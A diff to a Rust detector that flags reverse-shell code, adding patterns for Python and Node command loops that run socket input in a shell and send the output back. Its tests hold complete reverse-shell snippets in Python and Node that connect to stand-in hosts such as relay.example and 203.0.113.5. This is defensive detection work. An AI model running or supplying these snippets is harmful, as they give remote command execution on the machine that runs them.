@@ -1014,7 +1014,33 @@ fn reverse_shell(lower: &str) -> bool {
     let perl = has("socket(") && (has("exec") && has("open(stdin") || has("/bin/sh -i"));
     let php =
         has("fsockopen") && (has("exec") || has("proc_open") || has("shell_exec") || has("system"));
-    (python && (shell || has("pty.spawn"))) || node || ruby || perl || php
+    // A command loop: what the socket receives is run by a shell and the
+    // output sent back (`d = c.recv(…)`, `subprocess.run(d, shell=True)`,
+    // `c.sendall(out)`), with no descriptor handed over.
+    let python_loop = has("socket")
+        && has(".recv(")
+        && (has("shell=true")
+            || has("os.system(")
+            || has("os.popen(")
+            || has("getoutput(")
+            || has("getstatusoutput("))
+        && (has(".send(") || has(".sendall("));
+    let node_loop = (has("net.connect")
+        || has("net.socket")
+        || has("createconnection")
+        || has("require('net')")
+        || has("require(\"net\")"))
+        && has("child_process")
+        && (has("on('data'") || has("on(\"data\""))
+        && (has("exec(") || has("execsync("))
+        && has(".write(");
+    (python && (shell || has("pty.spawn")))
+        || node
+        || ruby
+        || perl
+        || php
+        || python_loop
+        || node_loop
 }
 
 #[cfg(test)]
@@ -1210,6 +1236,9 @@ mod tests {
     fn reverse_shells() {
         assert!(read("import socket, os, pty\ns = socket.socket()\ns.connect((\"1.2.3.4\", 8080))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn(\"/bin/bash\")\n").reverse_shell);
         assert!(read("const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst client = new net.Socket();\nclient.connect(4242, '1.2.3.4', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });").reverse_shell);
+        assert!(read("import socket as S, subprocess as P\nc = S.create_connection((\"relay.example\", 17003))\nwhile True:\n    d = c.recv(4096).decode()\n    o = P.run(d, shell=True, capture_output=True)\n    c.sendall(o.stdout + o.stderr)\n").reverse_shell);
+        assert!(read("const net = require('net'); const { exec } = require('child_process');\nconst c = net.connect(9001, '203.0.113.5');\nc.on('data', d => exec(d.toString(), (e, out) => c.write(out)));").reverse_shell);
+        assert!(!read("import socket\ns = socket.create_connection((\"127.0.0.1\", 6379))\ns.sendall(b\"PING\\r\\n\")\nprint(s.recv(64))\n").reverse_shell);
         assert!(!read("import socket\nfor port in (5432, 6379):\n    socket.create_connection((\"127.0.0.1\", port), timeout=1).close()\n").reverse_shell);
     }
 }
